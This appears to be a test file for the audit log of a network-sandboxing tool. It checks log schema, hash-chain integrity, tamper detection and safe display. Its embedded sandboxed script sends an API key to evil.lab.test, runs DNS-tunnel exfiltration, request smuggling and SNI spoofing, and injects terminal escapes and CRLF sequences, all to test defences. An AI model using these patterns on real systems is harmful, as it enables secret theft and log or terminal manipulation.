# SPDX-License-Identifier: Apache-2.0
"""The audit log: every line of every run of the suite against the published schema, its chain, and its reading."""
import json
import os
import re
import signal
import subprocess
import sys
import time
import unittest

import support
import terminal
from support import ASAN, DNS, FINDING, HTTP, LIFECYCLE, NETWORK, SLOW, VETHGUARD, Case, file_credential, policy

VALIDATOR = os.path.join(support.ROOT, "tests/lib/ocsf_validate.py")
SCHEMA = os.path.normpath(os.path.join(support.ROOT, "..", "shared", "ocsf"))
RULES = policy("{to: 'https://api.lab.test', credential: api}", "{to: 'https://pass.lab.test', tls: passthrough}",
               "tcp://tcp.lab.test:2222", "udp://udp.lab.test:1234", "http://plain.lab.test", "https://meta.lab.test",
               "https://other.lab.test", "https://nowhere.other.test", deny=("https://git.lab.test",), credentials="PLACE")
PLAIN = {("GET", "https://fresh.lab.test/plain"), ("GET", "http://fresh.lab.test/plain")}  # refused, and no attack
EVERYTHING = """
import os
def quiet(f, *a, **k):
    try: return f(*a, **k)
    except (OSError, EOFError): pass
k = os.environ['API_KEY']
fetch('api.lab.test', '/reflect')
quiet(fetch, 'evil.lab.test', '/p', fields=('Authorization: Bearer ' + k,))
quiet(fetch, 'git.lab.test', '/p'); quiet(fetch, 'meta.lab.test', '/'); quiet(fetch, 'other.lab.test', '/')
quiet(fetch, 'nowhere.other.test', '/'); quiet(fetch, 'plain.lab.test', '/x', port=80, plain=True)
quiet(fetch, 'pass.lab.test', '/x', verify=False)
quiet(fetch, 'fresh.lab.test', '/plain'); quiet(fetch, 'fresh.lab.test', '/plain', port=80, plain=True)
t = quiet(tls, 'api.lab.test', sni='www.lab.test', verify=False)
if t: quiet(t.sendall, request('GET', '/', 'www.lab.test')); quiet(t.recv, 10)
s = connect('tcp.lab.test', 2222); s.recv(20); s.close()
a = socket.getaddrinfo('udp.lab.test', 1234, socket.AF_INET, socket.SOCK_DGRAM)[0][4]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1); u.sendto(b'x', a); quiet(u.recv, 20)
for port in (443, 5353): quiet(u.sendto, b'x', ('8.8.8.8', port))
r = quiet(socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for i in range(20): quiet(r.sendto, b'\\x08\\x00\\xf7\\xff\\0\\0\\0\\0', ('10.99.0.80', 0))
s = connect('plain.lab.test', 80); s.sendall(b'POST / HTTP/1.1\\r\\nHost: plain.lab.test\\r\\nContent-Length: 1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n'); quiet(read_all, s)
s, status, head = proxy_connect('evil.lab.test:443'); s.close()
for t in (1, 28, 16, 65, 255): quiet(dns_query, 'x.lab.test', t)
quiet(dns_query, b'\\x1b]0;owned\\x07\\x1b[2J.\\xff\\xfe\\r\\n.\\xe2\\x80\\xae.lab.test'); quiet(dns_query, '"}{,.lab.test')
import binascii
for i in range(80): quiet(dns_query, binascii.hexlify(os.urandom(30)).decode() + '.t.evil.lab.test', 16)
for p in ('/%1b[31mred', '/a%0d%0aSet-Cookie:%20x', '/%e2%80%ae', '/' + 'a' * 9000, '/"\\\\\\'<script>'):
    quiet(fetch, 'api.lab.test', p, fields=('User-Agent: \\x1b[31m"agent"\\t' + 'x' * 5000,))
"""


def sound():
    """Audit files of the suite's runs. Of a run that was killed the last line may be torn (SIGKILL ends a write between
    two pages): there the lines before it count."""
    for path in dict.fromkeys(support.AUDITS):
        if not os.path.isfile(path) or path in support.UNSOUND:
            continue
        with open(path, "rb") as f:
            data = f.read()
        if path in support.KILLED and data and not data.endswith(b"\n"):
            path += ".whole"
            with open(path, "wb") as f:
                f.write(data[:data.rfind(b"\n") + 1])
        yield path


def audit_tool(*argv, **kw):
    return subprocess.run([VETHGUARD, "audit", *argv], capture_output=True, text=True, timeout=60 * SLOW, **kw)


class Logs(Case):
    """Every log that the tests before these have written. Each part of `make check` runs them over its own."""

    def test_a_schema_for_each_line(self):
        if not os.path.isdir(SCHEMA):
            self.skipTest("no schema at " + SCHEMA)
        files = list(sound())
        self.assertGreater(len(files), 0)
        r = subprocess.run([sys.executable, VALIDATOR, *files], capture_output=True, text=True)
        self.assertEqual(r.returncode, 0, f"{len(files)} files\n" + "\n".join((r.stdout + r.stderr).splitlines()[:60]))

    def test_b_chain_of_each_file(self):
        for path in sound():
            r = audit_tool("verify", path)
            self.assertEqual(r.returncode, 0, f"{path}: {r.stdout}{r.stderr}")

    def test_c_no_credential_in_any_file(self):
        for path in sound():
            with open(path, "rb") as f:
                self.assertIsNone(support.holds_secret(f.read()), path)

    def test_d_no_sanitizer_report_in_any_run(self):
        for path in support.OUTPUTS:
            if os.path.isfile(path):
                with open(path, errors="replace") as f:
                    self.assertIsNone(support.REPORT.search(f.read()), path)


class Audit(Case):
    @classmethod
    def setUpClass(cls):
        cls.box = support.Sandbox(RULES.replace("PLACE", file_credential()), options=["--name", "audited"])
        cls.done = cls.box.py(EVERYTHING)
        cls.status = cls.box.close()
        cls.events = cls.box.events()

    def tool(self, *argv, **kw):
        return audit_tool(*argv, **kw)

    def explain(self, policy_file, method, url):
        return subprocess.run([VETHGUARD, "policy", "explain", policy_file, method, url], stdout=subprocess.DEVNULL,
                              timeout=60 * SLOW).returncode

    def test_script_ran(self):
        self.assertEqual((self.done.status, self.status), (0, 0), self.done)

    def test_every_class(self):
        self.assertEqual({e["class_uid"] for e in self.events}, {HTTP, DNS, NETWORK, FINDING, LIFECYCLE})

    def test_start_and_stop(self):
        self.assertEqual([e["activity_id"] for e in self.events if e["class_uid"] == LIFECYCLE], [3, 4])
        self.assertEqual((self.events[0]["class_uid"], self.events[-1]["class_uid"]), (LIFECYCLE, LIFECYCLE))

    def test_sequence(self):
        """Numbers without a gap, times that do not run backwards by more than a request's length, ids once."""
        self.assertEqual([e["metadata"]["sequence"] for e in self.events], list(range(1, len(self.events) + 1)))
        ids = [e["metadata"]["uid"] for e in self.events]
        self.assertEqual(len(ids), len(set(ids)))

    def test_findings(self):
        kinds = {e["finding_info"]["types"][0] for e in self.events if e["class_uid"] == FINDING}
        for kind in ("credential-echo", "placeholder", "binding", "private-address", "ambiguous", "tunnel"):
            self.assertTrue([k for k in kinds if kind in k], f"{kind} not among {kinds}")

    def test_dropped_packets_are_counted(self):
        icmp = [e for e in self.events if e["class_uid"] == NETWORK and support.field(e, "connection_info.protocol_num") == 1]
        self.assertEqual(sum(e.get("count", 1) for e in icmp), 20, icmp)
        udp = [support.field(e, "dst_endpoint.port") for e in self.events
               if e["class_uid"] == NETWORK and e["action_id"] == 2 and support.field(e, "connection_info.protocol_num") == 17]
        self.assertIn(443, udp)
        self.assertIn(5353, udp)

    def test_one_line_per_request(self):
        rows = [e for e in self.events if e["class_uid"] == HTTP and support.field(e, "http_request.url.path") == "/reflect"]
        self.assertEqual(len(rows), 1)
        self.assertEqual(rows[0]["unmapped"]["credential"], "api")
        self.assertEqual(rows[0]["http_response"]["code"], 200)

    def test_hostile_names_are_bounded_and_printable(self):
        with open(self.box.audit, "rb") as f:
            for line in f:
                self.assertLess(len(line), 16384)
                text = line[:-1].decode("utf-8")
                self.assertEqual([c for c in text if not c.isprintable()], [], text[:300])  # bidirectional overrides too

    def test_show(self):
        r = self.tool("show", self.box.audit)
        self.assertEqual(r.returncode, 0, r)
        self.assertIn("api.lab.test", r.stdout)
        self.assertIn("/reflect", r.stdout)
        bad = [c for c in r.stdout if (ord(c) < 32 and c != "\n") or ord(c) == 127 or 0x80 <= ord(c) < 0xa0 or 0x202a <= ord(c) <= 0x202e]
        self.assertEqual(bad, [])

    def test_show_on_terminals(self):
        """At each width: no line is longer, no host or reason is cut, and nothing but our own colors moves a terminal."""
        rows = [e for e in self.events if e["class_uid"] == HTTP and e["action_id"] == 2 and e["http_request"].get("url", {}).get("hostname")]
        self.assertGreater(len(rows), 3)
        for width in (80, 120, 200):
            with self.subTest(width=width):
                status, text = terminal.run(width, VETHGUARD, "audit", "show", self.box.audit)
                self.assertEqual(status, 0)
                self.assertIn("\033[31mdenied\033[0m", text)
                text = terminal.plain(text)
                self.assertEqual([c for c in text if not (32 <= ord(c) < 127 or c == "\n")], [])
                self.assertEqual([line for line in text.splitlines() if len(line) > width or line.endswith(" ")], [])
                self.assertEqual("BYTES" in text, width >= 120)
                if width >= 120:
                    self.assertLess(text.index("RULE OR REASON"), text.index("BYTES"))
                words = re.sub(r"\s+", " ", text) if width == 200 else "".join(text.split())
                for e in rows:
                    self.assertIn("://" + e["http_request"]["url"]["hostname"], words)
                    if width == 80 and e["status_detail"].isascii():  # below one another: no other column in between
                        self.assertIn("".join(e["status_detail"].split()), words)

    def test_show_without_colours(self):
        for env in ({"NO_COLOR": "1"}, {"TERM": "dumb"}):
            self.assertNotIn("\033", terminal.run(120, VETHGUARD, "audit", "show", self.box.audit, env=env)[1])
        self.assertIn("\033", terminal.run(120, VETHGUARD, "audit", "show", self.box.audit, env={"NO_COLOR": ""})[1])

    def test_columns_says_how_wide_it_is(self):
        for columns, longest in (("100", 100), ("0", 80), ("-5", 80), ("x", 80), ("99999999999999999999", 80), ("1", 40)):
            text = terminal.plain(terminal.run(80, VETHGUARD, "audit", "show", self.box.audit, env={"COLUMNS": columns})[1])
            self.assertLessEqual(max(len(line) for line in text.splitlines()), longest, columns)
        self.assertGreater(max(len(line) for line in text.splitlines()), 30)

    def test_show_in_a_pipe(self):
        """One line per event, whole, whatever the environment says of a terminal."""
        r = self.tool("show", self.box.audit, env={**os.environ, "COLUMNS": "80", "TERM": "xterm"})
        self.assertNotIn("\033", r.stdout)
        self.assertEqual(len(r.stdout.splitlines()), 1 + len(self.events))
        paths = [support.field(e, "http_request.url.path") or "" for e in self.events if e["class_uid"] == HTTP]
        self.assertIn(max((p for p in paths if p.isascii() and p.isprintable() and "\\" not in p), key=len), r.stdout)

    def test_show_denied(self):
        r = self.tool("show", "--denied", self.box.audit)
        self.assertEqual(r.returncode, 0)
        self.assertIn("git.lab.test", r.stdout)
        self.assertNotIn("/reflect", "\n".join(x for x in r.stdout.splitlines() if "echo" not in x.lower() and "mask" not in x.lower()))

    def test_show_json_is_the_file(self):
        with open(self.box.audit) as f:
            text = f.read()
        self.assertEqual(self.tool("show", "--json", self.box.audit).stdout, text)
        self.assertEqual(self.tool("show", "--json", "-", input=text).stdout, text)

    def test_show_sandbox(self):
        self.assertIn("api.lab.test", self.tool("show", "--sandbox", "audited", self.box.audit).stdout)
        self.assertNotIn("api.lab.test", self.tool("show", "--sandbox", "someone-else", self.box.audit).stdout)

    def test_show_says_that_there_is_nothing(self):
        for words in (("--sandbox", "nobody"), ("--event", "nonsense")):
            r = self.tool("show", self.box.audit, *words)
            self.assertEqual((r.returncode, r.stdout, r.stderr), (0, "", f"vethguard: note: no event in {self.box.audit} matches {words[0]}\n"))
            r = self.tool("show", self.box.audit, "--json", *words)
            self.assertEqual((r.returncode, r.stdout, r.stderr), (0, "", ""))

    def test_show_says_that_nothing_was_denied(self):
        allowed = support.LAB.path("nothing-denied.jsonl")
        with open(self.box.audit) as f, open(allowed, "w") as out:
            out.writelines(line for line in f if json.loads(line).get("action_id") == 1)
        for words, note in ((("--denied",), f"nothing in {allowed} was denied or dropped"),
                            (("--denied", "--since", "1h"), f"no event in {allowed} matches --denied --since")):
            r = self.tool("show", allowed, *words)
            self.assertEqual((r.returncode, r.stdout, r.stderr), (0, "", f"vethguard: note: {note}\n"))
        empty = support.LAB.write("empty.jsonl", "")
        self.assertEqual(self.tool("show", empty).stderr, f"vethguard: note: {empty} has no events\n")

    def test_suggest_says_that_there_is_nothing(self):
        for words in (("--sandbox", "nobody"), ("--event", "nonsense")):
            r = self.tool("suggest", self.box.audit, *words)
            self.assertEqual((r.returncode, r.stderr), (1, f"vethguard: note: no event in {self.box.audit} matches {words[0]}\n"))
            self.assertEqual(self.tool("suggest", self.box.audit, "--json", *words).stderr, "")

    def test_show_since(self):
        self.assertIn("api.lab.test", self.tool("show", "--since", "1h", self.box.audit).stdout)
        later = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 3600))
        self.assertNotIn("api.lab.test", self.tool("show", "--since", later, self.box.audit).stdout)
        self.assertEqual(self.tool("show", "--since", "yesterday-ish", self.box.audit).returncode, 2)

    def test_suggest(self):
        """This run left attacks and two plain requests in the log: just these two are suggested. The run's own policy
        denies both; the suggested one loads and allows them, but neither another method or path nor anything refused beside."""
        r = self.tool("suggest", self.box.audit, "--json")
        self.assertEqual((r.returncode, r.stderr), (0, ""), r)
        answer = json.loads(r.stdout)
        rules = [s["rule"] for s in answer["suggested"]]
        self.assertEqual({(m, x["to"] + p) for x in rules for m in x["methods"] for p in x["paths"]}, PLAIN)
        refused = {x["what"]: x["why"] for x in answer["refused"]}
        self.assertIn("a deny rule", refused["GET https://git.lab.test/p"])
        suggested = support.LAB.write("suggested.yaml", self.tool("suggest", self.box.audit).stdout)
        own = support.LAB.write("own.yaml", RULES.replace("PLACE", file_credential()))
        for method, url in PLAIN:
            self.assertEqual(self.explain(own, method, url), 1)
            self.assertEqual(self.explain(suggested, method, url), 0)
            self.assertEqual(self.explain(suggested, "POST", url), 1)
            self.assertEqual(self.explain(suggested, method, url + "/x"), 1)
        attacks = [what.split() for what in refused if what.startswith("GET ")]
        self.assertGreater(len(attacks), 2)
        for method, url in attacks:
            self.assertEqual(self.explain(suggested, method, url), 1, url)

    def test_suggest_escapes_once(self):
        text = self.tool("suggest", self.box.audit).stdout
        self.assertIn("DNS A \\x1b]0;owned\\x07", text)
        self.assertNotIn("\\x5c", text)

    def test_suggest_closes_the_circle(self):
        """A request that was denied, then suggested, then added to the policy, is allowed; similar ones stay denied."""
        text = policy("https://api.lab.test")
        box = self.sandbox(text)
        for path in ("/a", "/b"):
            box.py(f"fetch('other.lab.test', '{path}')")
        box.py("fetch('evil.lab.test', '/vethguard-api-" + 32 * "0" + "')")
        event = next(e["metadata"]["uid"] for e in box.events() if support.field(e, "http_request.url.path") == "/a")
        r = self.tool("suggest", box.audit, "--event", event)
        self.assertEqual((r.returncode, r.stderr), (0, ""), r)
        more = support.LAB.write("more.yaml", r.stdout)
        whole = support.LAB.write("whole.yaml", text.replace("allow:", f"include: [{more}]\nallow:"))
        self.assertEqual([self.explain(whole, "GET", "https://other.lab.test/" + p) for p in ("a", "b", "a/c")], [0, 1, 1])
        self.assertEqual(self.explain(whole, "POST", "https://other.lab.test/a"), 1)
        self.assertEqual(self.explain(whole, "GET", "https://evil.lab.test/"), 1)
        r = self.tool("suggest", box.audit)
        self.assertIn('      - "/b"\n', r.stdout)
        self.assertNotIn('"https://evil.lab.test', r.stdout)
        self.assertIn("placeholder", r.stdout)
        self.assertLess(max(map(len, r.stdout.splitlines())), 101)
        one = support.LAB.write("one.yaml", policy("{to: 'https://${who}.lab.test', paths: [/a]}", more="variables: {who: {}}\n"))
        r = self.tool("suggest", box.audit, "--policy", one, "--var", "who=other", "--json")
        answer = json.loads(r.stdout)
        self.assertEqual(([s["rule"]["paths"] for s in answer["suggested"]], answer["allowed"]), ([["/b"]], 1), r)
        for wrong in (("--event", "0" * 16), ("--sandbox", "nobody"), ("--since", "2999-01-01T00:00:00Z")):
            r = self.tool("suggest", box.audit, *wrong)
            self.assertEqual((r.returncode, r.stdout), (1, "# Nothing to suggest.\n"), wrong)

    def test_show_of_what_is_no_log(self):
        path = support.LAB.write("no-log", "hello\n{\"a\": 1}\n\x00\x1b[31m\n")
        r = self.tool("show", path)
        self.assertEqual(r.returncode, 1, r)
        self.assertNotIn("\x1b", r.stdout + r.stderr)
        self.assertEqual(self.tool("show", "/no/such/file").returncode, 2)

    def damaged(self, change):
        with open(self.box.audit, "rb") as f:
            lines = f.read().splitlines(keepends=True)
        path = support.LAB.path("damaged.jsonl")
        with open(path, "wb") as f:
            f.writelines(change(lines))
        r = self.tool("verify", path)
        self.assertEqual(r.returncode, 1, r)
        return r.stdout + r.stderr

    def test_rotated_files_are_one_chain(self):
        with open(self.box.audit, "rb") as f:
            lines = f.read().splitlines(keepends=True)
        old, new = support.LAB.path("audit.jsonl.1"), support.LAB.path("audit.jsonl")
        for path, part in (old, lines[:7]), (new, lines[7:]):
            with open(path, "wb") as f:
                f.writelines(part)
        r = self.tool("verify", old, new)
        self.assertEqual(r.returncode, 0, r)
        self.assertIn(f"{len(lines)} lines in one unbroken chain", r.stdout)
        self.assertEqual(self.tool("verify", new).returncode, 0)
        r = self.tool("verify", new, old)
        self.assertEqual(r.returncode, 1, r)
        self.assertIn("audit.jsonl.1 line 1", r.stdout)
        self.assertIn("Of several files the oldest comes first", r.stdout)

    def test_removed_line(self):
        self.assertIn("6", self.damaged(lambda x: x[:5] + x[6:]))

    def test_changed_line(self):
        def change(lines):
            lines[5] = lines[5].replace(b'"class_uid":', b'"class_uid" :')
            return lines
        self.assertIn("6", self.damaged(change))

    def test_changed_value(self):
        def change(lines):
            i = next(i for i, x in enumerate(lines) if b'"action_id":2' in x)
            lines[i] = lines[i].replace(b'"action_id":2', b'"action_id":1')
            return lines
        self.damaged(change)

    def test_swapped_lines(self):
        self.damaged(lambda x: x[:5] + [x[6], x[5]] + x[7:])

    def test_doubled_line(self):
        self.damaged(lambda x: x[:5] + [x[5], x[5]] + x[6:])

    def test_inserted_line(self):
        self.damaged(lambda x: x[:5] + [b'{"class_uid":4002}\n'] + x[5:])

    def test_cut_within_a_line(self):
        self.damaged(lambda x: x[:-1] + [x[-1][:100]])

    def test_missing_start(self):
        """The rest of a log that was rotated is sound, but it says what it follows."""
        path = support.LAB.path("rest.jsonl")
        with open(self.box.audit, "rb") as f, open(path, "wb") as g:
            g.writelines(f.readlines()[3:])
        self.assertIn(self.events[2]["metadata"]["uid"], self.tool("verify", path).stdout)

    def test_anchor_shows_a_missing_end(self):
        last = self.events[-1]["attestation_list"][0]["fingerprint"]["value"]
        self.assertEqual(self.tool("verify", self.box.audit, "--anchor", last).returncode, 0)
        with open(self.box.audit) as f:
            lines = f.readlines()
        path = support.LAB.write("cut.jsonl", "".join(lines[:-1]))
        self.assertEqual(self.tool("verify", path, "--anchor", last).returncode, 1)

    def test_two_runs_in_one_file(self):
        """A second run appends, the chain holds across both."""
        audit = support.LAB.path("shared.jsonl")
        for name in ("first", "second"):
            r = subprocess.run([VETHGUARD, "run", "--policy", support.LAB.write("two.yaml", policy("https://api.lab.test")), "--config",
                                support.LAB.path("config.yaml"), "--audit", audit, "--name", name, "--", "curl", "-s", "https://api.lab.test/"],
                               capture_output=True, text=True, timeout=30 * SLOW)
            self.assertEqual(r.returncode, 0, r)
        support.AUDITS.append(audit)
        self.assertEqual(self.tool("verify", audit).returncode, 0)
        with open(audit) as f:
            names = [json.loads(line)["device"]["name"] for line in f]
        self.assertEqual(sorted(set(names)), ["first", "second"])

    def test_two_runs_at_once_in_one_file(self):
        audit = support.LAB.path("at-once.jsonl")
        p = support.LAB.write("two.yaml", policy("https://api.lab.test"))
        runs = [subprocess.Popen([VETHGUARD, "run", "--policy", p, "--config", support.LAB.path("config.yaml"), "--audit", audit, "--",
                                  "sh", "-c", "for i in 1 2 3 4 5; do curl -s https://api.lab.test/$i >/dev/null; done"],
                                 stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True) for _ in range(4)]
        for r in runs:
            _, err = r.communicate(timeout=60 * SLOW)
            self.assertEqual(r.returncode, 0, err)
        support.AUDITS.append(audit)
        r = self.tool("verify", audit)
        self.assertEqual(r.returncode, 0, r)
        with open(audit) as f:
            rows = [json.loads(line) for line in f]
        self.assertEqual(len([e for e in rows if e["class_uid"] == HTTP]), 20)

    def test_file_is_private(self):
        self.assertEqual(os.stat(self.box.audit).st_mode & 0o077, 0)

    def test_sandbox_cannot_touch_it(self):
        """Rights of a file are not vethguard's to change for root inside; an ordinary user has none over the log."""
        box = self.sandbox(policy("https://api.lab.test"), user="nobody")
        done = box.sh(f"cat {box.audit}; echo x >> {box.audit}; rm -f {box.audit}")
        self.assertEqual(done.out, "")
        self.assertTrue(os.path.exists(box.audit))


@unittest.skipUnless(ASAN, "not an instrumented build")
class Sanitizers(Case):
    """A report of any of the programs would be seen: without this test, a quiet suite would prove nothing."""

    def report_of(self, role):
        box = support.Sandbox(policy("https://api.lab.test"))
        os.kill(box.pids()[role], signal.SIGSEGV)
        with self.assertRaisesRegex(AssertionError, "sanitizer report") as caught:
            box.close() if role == "recorder" else box.wait()  # without a recorder it goes on: another one takes over
        support.OUTPUTS.remove(box.stderr_path)
        self.assertIn("AddressSanitizer", str(caught.exception))

    def test_supervisor(self):
        self.report_of("supervisor")

    def test_keeper(self):
        self.report_of("keeper")

    def test_recorder(self):
        self.report_of("recorder")

    def test_worker(self):
        self.report_of("worker")
